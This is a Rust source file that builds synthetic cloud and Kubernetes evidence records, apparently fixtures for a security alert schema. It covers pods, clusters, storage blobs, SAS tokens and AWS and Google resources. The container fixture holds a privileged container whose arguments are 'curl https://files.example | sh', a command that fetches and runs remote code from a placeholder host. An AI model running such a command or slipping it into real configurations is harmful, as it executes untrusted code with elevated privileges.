//! Evidence from clouds: resources, storage, containers and the clusters they run in.

use serde_json::{Value, json};

use super::endpoint::{IP, USER};
use super::{Facts, Kind};

pub const KINDS: &[Kind] = &[
    POD,
    CLUSTER,
    NAMESPACE,
    CONTROLLER,
    ("kubernetesServiceEvidence", service),
    ("kubernetesSecretEvidence", secret),
    ACCOUNT,
    CONTAINER,
    IMAGE,
    REGISTRY,
    RESOURCE,
    BLOB_CONTAINER,
    ("blobEvidence", blob),
    ("sasTokenEvidence", sas_token),
    ("amazonResourceEvidence", amazon),
    ("googleCloudResourceEvidence", google),
    IP,
    USER,
];

const RESOURCE: Kind = ("azureResourceEvidence", resource);
const BLOB_CONTAINER: Kind = ("blobContainerEvidence", blob_container);
const REGISTRY: Kind = ("containerRegistryEvidence", |_| json!({ "registry": "registry.contoso.example" }));
const IMAGE: Kind = ("containerImageEvidence", image);
const CONTAINER: Kind = ("containerEvidence", container);
const CLUSTER: Kind = ("kubernetesClusterEvidence", cluster);
const NAMESPACE: Kind = ("kubernetesNamespaceEvidence", namespace);
const CONTROLLER: Kind = ("kubernetesControllerEvidence", controller);
const ACCOUNT: Kind = ("kubernetesServiceAccountEvidence", account);
const POD: Kind = ("kubernetesPodEvidence", pod);

fn resource(facts: &mut Facts<'_>) -> Value {
    let subscription = facts.random.guid();
    json!({
        "resourceId": format!("/subscriptions/{subscription}/resourceGroups/prod/providers/Microsoft.Storage/storageAccounts/data"),
        "resourceName": "data",
        "resourceType": "Microsoft.Storage/storageAccounts",
    })
}

fn blob_container(facts: &mut Facts<'_>) -> Value {
    json!({
        "name": "exports",
        "storageResource": facts.nested(RESOURCE),
        "url": "https://data.blob.example/exports",
    })
}

fn blob(facts: &mut Facts<'_>) -> Value {
    json!({
        "blobContainer": facts.nested(BLOB_CONTAINER),
        "etag": "0x8DC0000000000A1",
        "fileHashes": [{ "algorithm": "md5", "value": facts.random.hex(32) }],
        "name": "2030/q1 = final.zip",
        "url": "https://data.blob.example/exports/2030/q1%20=%20final.zip",
    })
}

fn sas_token(facts: &mut Facts<'_>) -> Value {
    json!({
        "allowedIpAddresses": "",
        "allowedResourceTypes": ["service", "container", "object"],
        "allowedServices": ["blob"],
        "expiryDateTime": "2031-01-01T00:00:00Z",
        "permissions": ["read", "list"],
        "protocol": "https",
        "signatureHash": facts.random.hex(64),
        "signedWith": "Key1",
        "startDateTime": facts.created,
        "storageResource": facts.nested(RESOURCE),
    })
}

fn amazon(_: &mut Facts<'_>) -> Value {
    json!({
        "amazonAccountId": "000000000042",
        "amazonResourceId": "arn:aws:ec2:eu-central-1:000000000042:instance/i-0example",
        "resourceName": "i-0example",
        "resourceType": "ec2.instance",
    })
}

fn google(_: &mut Facts<'_>) -> Value {
    json!({
        "fullResourceName": "//compute.googleapis.example/projects/p1/zones/europe-west6-a/instances/vm-1",
        "location": "europe-west6-a",
        "locationType": "zonal",
        "projectId": "p1",
        "projectNumber": 900_000_000_001_i64,
        "resourceName": "vm-1",
        "resourceType": "VirtualMachine",
    })
}

fn image(facts: &mut Facts<'_>) -> Value {
    json!({
        "digestImage": null,
        "imageId": format!("registry.contoso.example/billing@sha256:{}", facts.random.hex(64)),
        "registry": facts.nested(REGISTRY),
    })
}

fn container(facts: &mut Facts<'_>) -> Value {
    json!({
        "args": ["-c", "curl https://files.example | sh"],
        "command": ["/bin/sh"],
        "containerId": facts.random.hex(64),
        "image": facts.nested(IMAGE),
        "isPrivileged": true,
        "name": "billing",
        "pod": null,
    })
}

fn cluster(facts: &mut Facts<'_>) -> Value {
    json!({
        "cloudResource": facts.nested(RESOURCE),
        "distribution": "AKS",
        "name": "aks-prod",
        "platform": "aks",
        "version": "1.33",
    })
}

fn namespace(facts: &mut Facts<'_>) -> Value {
    json!({ "cluster": facts.nested(CLUSTER), "labels": { "team": "billing" }, "name": "billing" })
}

fn controller(facts: &mut Facts<'_>) -> Value {
    json!({ "labels": {}, "name": "billing", "namespace": facts.nested(NAMESPACE), "type": "Deployment" })
}

fn account(facts: &mut Facts<'_>) -> Value {
    json!({ "name": "default", "namespace": facts.nested(NAMESPACE) })
}

fn secret(facts: &mut Facts<'_>) -> Value {
    json!({ "name": "db-password", "namespace": facts.nested(NAMESPACE), "secretType": "Opaque" })
}

fn service(facts: &mut Facts<'_>) -> Value {
    json!({
        "clusterIP": facts.nested(IP),
        "externalIPs": [],
        "labels": {},
        "name": "billing",
        "namespace": facts.nested(NAMESPACE),
        "selector": { "app": "billing" },
        "servicePorts": [{ "appProtocol": "http", "name": "web", "nodePort": 30_080, "port": 80, "protocol": "tcp", "targetPort": "8080" }],
        "serviceType": "nodePort",
    })
}

fn pod(facts: &mut Facts<'_>) -> Value {
    json!({
        "containers": [facts.nested(CONTAINER)],
        "controller": facts.nested(CONTROLLER),
        "ephemeralContainers": [],
        "initContainers": [],
        "labels": { "app": "billing" },
        "name": format!("billing-{}", facts.random.hex(10)),
        "namespace": facts.nested(NAMESPACE),
        "podIp": facts.nested(IP),
        "serviceAccount": facts.nested(ACCOUNT),
    })
}
